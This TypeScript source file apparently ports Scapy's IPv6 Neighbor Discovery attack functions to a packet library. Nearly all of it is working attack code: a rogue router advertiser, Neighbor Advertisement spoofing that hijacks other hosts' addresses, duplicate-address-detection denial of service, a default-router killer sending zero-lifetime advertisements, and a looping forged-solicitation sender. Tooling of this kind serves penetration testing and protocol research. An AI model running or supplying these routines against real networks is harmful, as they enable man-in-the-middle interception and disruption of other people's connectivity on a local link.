/**
 * Scapy's Neighbor Discovery machines (scapy/layers/inet6.py), as answering machines run by
 * Scapy's functions until count, timeout or Ctrl-C:
 *  - NDP_Attack_Fake_Router(ra): answers each Router Solicitation with the given Router
 *    Advertisement (a frame, sent as it is): the RA machine a host's rdisc6 or SLAAC listens to;
 *  - NDP_Attack_NA_Spoofing: answers Neighbor Solicitations (not DAD's) with a Neighbor
 *    Advertisement claiming the target for reply_mac: the NA machine, and an NDP spoofer;
 *  - NDP_Attack_DAD_DoS_via_NS / _via_NA: answers DAD probes so the address looks taken;
 *  - NDP_Attack_Kill_Default_Router: answers each router's RA with a zero-lifetime copy;
 *  - NDP_Attack_NS_Spoofing: sends a forged Neighbor Solicitation every `inter` seconds.
 * Each prints Scapy's line for what it sends.
 */
import { normalizeIPv6, parseIPv6 } from "../core/addr.ts";
import { conf } from "../core/conf.ts";
import type { Packet } from "../core/packet.ts";
import { ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_RS } from "../layers/icmpv6Nd.ts";
import { IPv6 } from "../layers/inet6.ts";
import { Ether } from "../layers/l2.ts";
import { ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr } from "../layers/ndOptions.ts";
import { getIfHwaddr } from "../live/ifutil.ts";
import { interruptible } from "../live/interruptible.ts";
import { say } from "../live/output.ts";
import { sendp } from "../live/send.ts";
import { AnsweringMachine } from "./ansmachine.ts";
import { normalizeOptions } from "./options.ts";

const hex2 = (n: number) => n.toString(16).padStart(2, "0");

/** The solicited-node multicast group of an address (RFC 4291 §2.7.1: ff02::1:ff + its last 24 bits). */
export function solicitedNodeAddress(addr: string): string {
  const b = parseIPv6(addr);
  if (!b) throw new TypeError(`not an IPv6 address: ${JSON.stringify(addr)}`);
  return normalizeIPv6(`ff02::1:ff${hex2(b[13]!)}:${hex2(b[14]!)}${hex2(b[15]!)}`)!;
}

const sameAddress = (a: unknown, b: unknown) => typeof a === "string" && typeof b === "string" && normalizeIPv6(a) === normalizeIPv6(b);
const isSolicitedNode = (addr: string) => /^ff02::1:ff[0-9a-f]{2}:[0-9a-f]{1,4}$/.test(normalizeIPv6(addr) ?? "");

/** What the machines below share: an interface, its MAC (not to hear ourselves), the source filters. */
abstract class NdpMachine extends AnsweringMachine {
  static override send_function = sendp;
  declare mac_src_filter: string | null;
  declare reply_mac: string | null;

  /** The interface the machine works on (the iface option, else conf.iface). */
  protected get workIface(): string {
    return this.runOptions.iface ?? conf.iface;
  }

  /** reply_mac, else the interface's MAC. */
  protected get ownMac(): string {
    return this.reply_mac ?? getIfHwaddr(this.workIface);
  }

  override run(options: Record<string, unknown> = {}): Promise<void> {
    // Scapy's filter: ICMPv6, not from our own MAC (so the machine does not answer itself).
    const iface = (options.iface as string | undefined) ?? this.runOptions.iface ?? conf.iface;
    const mac = this.reply_mac ?? getIfHwaddr(iface);
    return super.run({ filter: `icmp6 and not ether src ${mac}`, ...options });
  }

  protected fromFilteredMac(req: Packet): boolean {
    const src = req.getLayer(Ether)?.src;
    return !this.mac_src_filter || src === this.mac_src_filter;
  }
}

/** Machines that answer Neighbor Solicitations: filtered by source MAC and target, replying from reply_mac. */
abstract class SolicitationMachine extends NdpMachine {
  static override options = ["macSrcFilter", "tgtFilter", "replyMac"];
  declare tgt_filter: string | null;
  /** What the reply is, for the printed line ("NS", "NA"). */
  protected abstract readonly replyKind: string;

  override parse_options(o: { macSrcFilter?: string; tgtFilter?: string; replyMac?: string }): void {
    this.mac_src_filter = o.macSrcFilter ?? null;
    this.tgt_filter = o.tgtFilter ?? null;
    this.reply_mac = o.replyMac ?? null;
  }

  /** The solicitation's IPv6 and NS layers when it passes the filters, else null. */
  protected solicitation(req: Packet) {
    const ip = req.getLayer(IPv6);
    const ns = req.getLayer(ICMPv6ND_NS);
    if (!req.hasLayer(Ether) || !ip || !ns || !this.fromFilteredMac(req)) return null;
    if (this.tgt_filter && !sameAddress(ns.tgt, this.tgt_filter)) return null;
    return { ip, ns };
  }

  override print_reply(req: Packet): void {
    say(`Reply ${this.replyKind} for target address ${req.getLayer(ICMPv6ND_NS)!.tgt} (received from ${req.getLayer(Ether)!.src})\n`);
  }
}

/** DAD probes (NS from ::, to the target's solicited-node group), answered so the address looks taken. */
abstract class DadDoS extends SolicitationMachine {
  override is_request(req: Packet): boolean {
    const s = this.solicitation(req);
    return !!s && sameAddress(s.ip.src, "::") && sameAddress(s.ip.dst, solicitedNodeAddress(s.ns.tgt));
  }
}

export class NDP_DAD_DoS_NS_am extends DadDoS {
  static override function_name = "NDP_Attack_DAD_DoS_via_NS";
  protected readonly replyKind = "NS";

  override make_reply(req: Packet): Packet {
    const ns = req.getLayer(ICMPv6ND_NS)!;
    return Ether({ src: this.ownMac }).div(IPv6({ src: "::", dst: req.getLayer(IPv6)!.dst }), ICMPv6ND_NS({ tgt: ns.tgt }));
  }
}

export class NDP_DAD_DoS_NA_am extends DadDoS {
  static override function_name = "NDP_Attack_DAD_DoS_via_NA";
  protected readonly replyKind = "NA";

  override make_reply(req: Packet): Packet {
    const tgt = req.getLayer(ICMPv6ND_NS)!.tgt;
    const mac = this.ownMac;
    return Ether({ src: mac }).div(IPv6({ src: tgt, dst: req.getLayer(IPv6)!.dst }), ICMPv6ND_NA({ tgt, S: 0, R: 0, O: 1 }), ICMPv6NDOptDstLLAddr({ lladdr: mac }));
  }
}

/** Neighbor Solicitations (not DAD's) answered with an advertisement claiming the target for reply_mac. */
export class NDP_NA_Spoofing_am extends SolicitationMachine {
  static override function_name = "NDP_Attack_NA_Spoofing";
  static override options = [...SolicitationMachine.options, "router"];
  protected readonly replyKind = "NA";
  declare router: boolean;

  override parse_options(o: { macSrcFilter?: string; tgtFilter?: string; replyMac?: string; router?: boolean }): void {
    super.parse_options(o);
    this.router = !!o.router;
  }

  override is_request(req: Packet): boolean {
    const s = this.solicitation(req);
    if (!s || sameAddress(s.ip.src, "::")) return false;
    // Address resolution goes to the target's solicited-node group; a unicast NS is a reachability check.
    return !isSolicitedNode(s.ip.dst) || sameAddress(s.ip.dst, solicitedNodeAddress(s.ns.tgt));
  }

  override make_reply(req: Packet): Packet {
    const tgt = req.getLayer(ICMPv6ND_NS)!.tgt;
    const mac = this.ownMac;
    return Ether({ src: mac, dst: req.getLayer(Ether)!.src }).div(IPv6({ src: tgt, dst: req.getLayer(IPv6)!.src }), ICMPv6ND_NA({ tgt, S: 1, R: this.router ? 1 : 0, O: 1 }), ICMPv6NDOptDstLLAddr({ lladdr: mac }));
  }
}

/** Each default router's RA answered with a copy announcing a lifetime of zero. */
export class NDP_Kill_Default_Router_am extends NdpMachine {
  static override function_name = "NDP_Attack_Kill_Default_Router";
  static override options = ["macSrcFilter", "ipSrcFilter", "replyMac", "tgtMac"];
  declare ip_src_filter: string | null;
  declare tgt_mac: string | null;

  override parse_options(o: { macSrcFilter?: string; ipSrcFilter?: string; replyMac?: string; tgtMac?: string }): void {
    this.mac_src_filter = o.macSrcFilter ?? null;
    this.ip_src_filter = o.ipSrcFilter ?? null;
    this.reply_mac = o.replyMac ?? null;
    this.tgt_mac = o.tgtMac ?? null;
  }

  override is_request(req: Packet): boolean {
    const ip = req.getLayer(IPv6);
    const ra = req.getLayer(ICMPv6ND_RA);
    if (!req.hasLayer(Ether) || !ip || !ra || !this.fromFilteredMac(req)) return false;
    if (this.ip_src_filter && !sameAddress(ip.src, this.ip_src_filter)) return false;
    return ra.routerlifetime !== 0;
  }

  override make_reply(req: Packet): Packet {
    let rep = Ether({ src: this.ownMac, ...(this.tgt_mac ? { dst: this.tgt_mac } : {}) }).div(IPv6({ src: req.getLayer(IPv6)!.src, dst: "ff02::1" }), ICMPv6ND_RA({ prf: 1, routerlifetime: 0 }));
    // The router's prefixes, then its link-layer address.
    for (let pio = req.getLayer(ICMPv6NDOptPrefixInfo); pio; pio = pio.payload?.getLayer(ICMPv6NDOptPrefixInfo)) {
      const one = pio.copy();
      one.payload = null;
      rep = rep.div(one);
    }
    const lladdr = req.getLayer(ICMPv6NDOptSrcLLAddr)?.lladdr ?? req.getLayer(Ether)!.src;
    return rep.div(ICMPv6NDOptSrcLLAddr({ lladdr }));
  }

  override print_reply(req: Packet): void {
    say(`Fake RA sent with source address ${req.getLayer(IPv6)!.src}\n`);
  }
}

/** Router Solicitations answered with the RA given (a frame, sent as it is). */
export class NDP_Fake_Router_am extends NdpMachine {
  static override function_name = "NDP_Attack_Fake_Router";
  static override options = ["ra", "macSrcFilter", "ipSrcFilter"];
  declare ra: Packet;
  declare ip_src_filter: string | null;

  override parse_options(o: { ra?: Packet; macSrcFilter?: string; ipSrcFilter?: string }): void {
    if (!o.ra || o.ra.spec.name === "IPv6" || !o.ra.hasLayer(ICMPv6ND_RA)) throw new TypeError("NDP_Attack_Fake_Router(ra): ra must be a frame carrying an RA (Ether()/IPv6()/ICMPv6ND_RA()/...): it is sent at layer 2");
    this.ra = o.ra;
    this.mac_src_filter = o.macSrcFilter ?? null;
    this.ip_src_filter = o.ipSrcFilter ?? null;
    this.reply_mac = null;
  }

  override run(options: Record<string, unknown> = {}): Promise<void> {
    // Scapy listens to all of ICMPv6 here (the RA it sends is not an RS).
    return AnsweringMachine.prototype.run.call(this, { filter: "icmp6", ...options });
  }

  override is_request(req: Packet): boolean {
    const ip = req.getLayer(IPv6);
    if (!req.hasLayer(Ether) || !ip || !req.hasLayer(ICMPv6ND_RS) || !this.fromFilteredMac(req)) return false;
    return !this.ip_src_filter || sameAddress(ip.src, this.ip_src_filter);
  }

  override make_reply(): Packet {
    return this.ra;
  }

  override print_reply(req: Packet): void {
    say(`Fake RA sent in response to RS from ${req.getLayer(IPv6)!.src}\n`);
  }
}

type Run = Record<string, unknown>;

/** Scapy's NDP_Attack_Fake_Router(ra, iface=..., mac_src_filter=..., ip_src_filter=...). */
export function NDP_Attack_Fake_Router(ra: Packet, options: Run = {}): Promise<void> {
  return new NDP_Fake_Router_am({ ...options, ra })();
}

/** Scapy's NDP_Attack_NA_Spoofing(iface=..., mac_src_filter=..., tgt_filter=..., reply_mac=..., router=False). */
export function NDP_Attack_NA_Spoofing(options: Run = {}): Promise<void> {
  return new NDP_NA_Spoofing_am(options)();
}

/** Scapy's NDP_Attack_DAD_DoS_via_NS(iface=..., mac_src_filter=..., tgt_filter=..., reply_mac=...). */
export function NDP_Attack_DAD_DoS_via_NS(options: Run = {}): Promise<void> {
  return new NDP_DAD_DoS_NS_am(options)();
}

/** Scapy's NDP_Attack_DAD_DoS_via_NA(iface=..., mac_src_filter=..., tgt_filter=..., reply_mac=...). */
export function NDP_Attack_DAD_DoS_via_NA(options: Run = {}): Promise<void> {
  return new NDP_DAD_DoS_NA_am(options)();
}

/** Scapy's NDP_Attack_Kill_Default_Router(iface=..., mac_src_filter=..., ip_src_filter=..., reply_mac=..., tgt_mac=...). */
export function NDP_Attack_Kill_Default_Router(options: Run = {}): Promise<void> {
  return new NDP_Kill_Default_Router_am(options)();
}

export interface NSSpoofingOptions {
  /** The MAC the Source Link-Layer Address option claims (default: the interface's). */
  srcLladdr?: string;
  /** The IPv6 source (default: the route's). */
  src?: string;
  /** The NS target (default 2001:db8::1). */
  target?: string;
  /** The IPv6 destination (default: the target's solicited-node group). */
  dst?: string;
  srcMac?: string;
  dstMac?: string;
  /** Send again every `inter` seconds until `signal` aborts (default true). */
  loop?: boolean;
  inter?: number;
  iface?: string;
  signal?: AbortSignal;
}

/** Scapy's NDP_Attack_NS_Spoofing: a forged Neighbor Solicitation, once or every `inter` seconds. */
export async function NDP_Attack_NS_Spoofing(options: NSSpoofingOptions = {}): Promise<void> {
  const o = normalizeOptions("NDP_Attack_NS_Spoofing", options, ["srcLladdr", "src", "target", "dst", "srcMac", "dstMac", "loop", "inter", "iface", "signal"]) as NSSpoofingOptions;
  const iface = o.iface ?? conf.iface;
  const target = o.target ?? "2001:db8::1";
  const pkt = Ether({ ...(o.srcMac ? { src: o.srcMac } : {}), ...(o.dstMac ? { dst: o.dstMac } : {}) }).div(
    IPv6({ ...(o.src ? { src: o.src } : {}), dst: o.dst ?? solicitedNodeAddress(target) }),
    ICMPv6ND_NS({ tgt: target }),
    ICMPv6NDOptSrcLLAddr({ lladdr: o.srcLladdr ?? getIfHwaddr(iface) }),
  );
  const loop = o.loop ?? true;
  await sendp(pkt, { iface, verbose: 0, ...(loop ? { loop: true, inter: o.inter ?? 1 } : {}), signal: o.signal });
}

interruptible<Function>(NDP_Attack_Fake_Router, NDP_Attack_NA_Spoofing, NDP_Attack_DAD_DoS_via_NS, NDP_Attack_DAD_DoS_via_NA, NDP_Attack_Kill_Default_Router, NDP_Attack_NS_Spoofing);
